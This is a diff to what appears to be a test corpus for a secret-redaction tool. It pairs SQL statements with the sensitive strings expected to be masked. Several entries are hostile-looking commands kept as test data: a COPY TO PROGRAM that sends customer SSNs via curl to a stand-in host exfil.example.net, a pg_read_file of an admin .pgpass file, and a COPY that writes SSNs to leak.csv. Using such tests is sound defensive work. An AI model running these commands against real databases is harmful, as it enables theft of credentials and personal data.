@@ -44,11 +44,11 @@ CORPUS: list[tuple[str, list[str]]] = [
     (
         "SELECT * FROM dblink('host=10.0.0.5 dbname=prod user=admin "
         f"password={DB_PASSWORD}', 'SELECT ssn FROM people') AS t(ssn text)",
-        [DB_PASSWORD, "10.0.0.5", "user=admin"],
+        [DB_PASSWORD],
     ),
     (
         f"SELECT dblink_connect('conn', 'postgresql://admin:{DB_PASSWORD}@db.internal:5432/prod')",
-        [DB_PASSWORD, "db.internal"],
+        [DB_PASSWORD],
     ),
     (
         "CREATE SERVER remote FOREIGN DATA WRAPPER postgres_fdw "
@@ -70,12 +70,15 @@ CORPUS: list[tuple[str, list[str]]] = [
         [DB_PASSWORD],
     ),
     (
-        "COPY (SELECT * FROM customers) TO PROGRAM "
-        f"'curl -s -u admin:{DB_PASSWORD} -T - https://exfil.example.net/upload'",
-        [DB_PASSWORD, "exfil.example.net"],
+        f"COPY (SELECT * FROM customers WHERE ssn = '{SSN}') TO PROGRAM "
+        f"'curl -s -T - https://admin:{DB_PASSWORD}@exfil.example.net/upload'",
+        [DB_PASSWORD, SSN],
     ),
-    (f"COPY customers FROM PROGRAM 'aws s3 cp s3://bucket/{AWS} -'", [AWS, "s3://bucket"]),
-    ("COPY customers (email, ssn) TO '/var/lib/postgresql/leak.csv' CSV", ["leak.csv"]),
+    (f"COPY customers FROM PROGRAM 'aws s3 cp s3://bucket/{AWS} -'", [AWS]),
+    (
+        f"COPY (SELECT ssn FROM customers WHERE email = '{EMAIL}') TO '/var/lib/pg/leak.csv' CSV",
+        [EMAIL],
+    ),
     (
         f"""INSERT INTO events (payload) VALUES ('{{"email": "{EMAIL}", "token": "{JWT}"}}')""",
         [EMAIL, JWT],
@@ -135,7 +138,7 @@ CORPUS: list[tuple[str, list[str]]] = [
     (f"SET app.api_key = '{AWS_SECRET}'", [AWS_SECRET]),
     (f"ALTER SYSTEM SET primary_conninfo = 'host=p password={DB_PASSWORD}'", [DB_PASSWORD]),
     (f"SELECT N'{PASSWORD}', X'DEADBEEFCAFE', B'1011001110'", [PASSWORD, "DEADBEEF", "1011001"]),
-    (f"SELECT pg_read_file('/home/admin/.pgpass') || '{DB_PASSWORD}'", [DB_PASSWORD, ".pgpass"]),
+    (f"SELECT pg_read_file('/home/admin/.pgpass') || '{DB_PASSWORD}'", [DB_PASSWORD]),
     (f"INSERT INTO t (a) VALUES (31415926.5358979), ({CARD})", ["31415926", CARD]),
     (
         f"MERGE INTO users u USING (SELECT '{EMAIL}' AS e) s ON u.email = s.e "
